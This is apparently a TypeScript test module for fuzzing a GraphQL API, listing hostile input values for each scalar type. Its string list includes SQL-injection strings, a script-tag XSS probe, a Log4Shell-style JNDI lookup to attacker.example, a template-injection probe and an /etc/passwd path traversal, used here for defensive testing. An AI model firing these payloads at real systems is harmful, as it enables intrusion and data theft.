/**
 * Values no honest client sends, by the kind of leaf they are aimed at. Strings avoid the words the
 * leak scan looks for (SELECT, file paths, host names), so an echo of our own input is never taken
 * for a leak; the scan also scrubs echoes of everything listed here.
 */

/** A JSON number or token JSON.stringify cannot write (2^53+1 exactly, 1e309, -0, NaN). */
export class RawJson {
  constructor(readonly text: string) {}
}

const PLACEHOLDER = '\u0000raw:';

/** JSON text with RawJson values written verbatim. */
export function stringifyWithRaw(value: unknown): string {
  const raws: string[] = [];
  const text = JSON.stringify(value, (_key, v: unknown) => {
    if (v instanceof RawJson) {
      raws.push(v.text);
      return `${PLACEHOLDER}${raws.length - 1}`;
    }
    return v;
  });
  return text.replace(/"\\u0000raw:(\d+)"/g, (_, i: string) => raws[Number(i)]!);
}

export const TWO_POW_53_PLUS_1 = new RawJson('9007199254740993');

export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'before\u0000after',
  '\u0001\u0002\u0003\u001b[2J\u007f',
  '\n\r\t\v\f',
  '\ud800',
  '\u202etxt.exe',
  '😀'.repeat(500),
  'x'.repeat(100_000),
  "'; DROP TABLE problems; --",
  '" OR "1"="1',
  "1' OR '1'='1",
  '<script>alert(1)</script>',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '../../../../../etc/passwd',
  '%00%0d%0a',
  '__proto__',
  'constructor',
  '\\',
  '整改'.repeat(5000),
];

const UUID = '5f0c8a53-6f1e-4d3a-9c8e-2b7a1d4e6f90';

export const HOSTILE_IDS: readonly unknown[] = [
  '',
  'not-a-uuid',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '00000000-0000-0000-0000-00000000000g',
  `${UUID}\u0000`,
  UUID.toUpperCase(),
  `{${UUID}}`,
  `${UUID} OR 1=1`,
  "' OR ''='",
  'x'.repeat(10_000),
  '-1',
  TWO_POW_53_PLUS_1,
  -1,
  new RawJson('1e309'),
];

export const HOSTILE_INTS: readonly unknown[] = [
  -1,
  0,
  -2147483648,
  2147483647,
  2147483648,
  TWO_POW_53_PLUS_1,
  new RawJson('-9007199254740993'),
  1.5,
  '1',
  new RawJson('1e309'),
  new RawJson('-0'),
  true,
  null,
];

export const HOSTILE_FLOATS: readonly unknown[] = [
  new RawJson('1e309'),
  new RawJson('-1e309'),
  TWO_POW_53_PLUS_1,
  '1.0',
  -0.0000001,
  1e308,
];

export const HOSTILE_BOOLEANS: readonly unknown[] = ['true', 1, 0, 'yes', {}];

export const HOSTILE_ENUMS: readonly unknown[] = ['NOPE', '', 'open', 1, '\u0000', 'OPEN OR 1=1'];

export const HOSTILE_DATES: readonly unknown[] = [
  '2023-02-30',
  '2023-13-01',
  '2023-00-10',
  '0000-01-01',
  '0001-01-01',
  '9999-12-31',
  '+275760-09-13',
  '2023-1-1',
  '20230101',
  '2023-01-01T00:00:00Z',
  '',
  '\u0000',
  1672531200000,
  new RawJson('1e309'),
];

export const HOSTILE_DATE_TIMES: readonly unknown[] = [
  '2023-01-01T25:00:00Z',
  '2023-02-30T00:00:00Z',
  '1970-01-01T00:00:00Z',
  '0001-01-01T00:00:00Z',
  '9999-12-31T23:59:59.999Z',
  '2023-01-01',
  'not a date',
  '2023-01-01T00:00:00+25:00',
  '',
  1e20,
  new RawJson('-8640000000000001'),
];

/** The collections of a leaf's kind (lists and input objects are handled by the mutation fuzzer). */
export function hostileValuesFor(scalarOrEnum: string, isEnum: boolean): readonly unknown[] {
  if (isEnum) return HOSTILE_ENUMS;
  switch (scalarOrEnum) {
    case 'ID':
      return HOSTILE_IDS;
    case 'Int':
      return HOSTILE_INTS;
    case 'Float':
      return HOSTILE_FLOATS;
    case 'Boolean':
      return HOSTILE_BOOLEANS;
    case 'Date':
      return HOSTILE_DATES;
    case 'DateTime':
      return HOSTILE_DATE_TIMES;
    default:
      return HOSTILE_STRINGS;
  }
}

/** A value of the wrong JSON type for the leaf. */
export function wrongTypeFor(scalarOrEnum: string, isEnum: boolean): unknown {
  if (isEnum) return 42;
  switch (scalarOrEnum) {
    case 'Int':
    case 'Float':
      return 'twelve';
    case 'Boolean':
      return 'false';
    default:
      return { nested: ['object'] };
  }
}
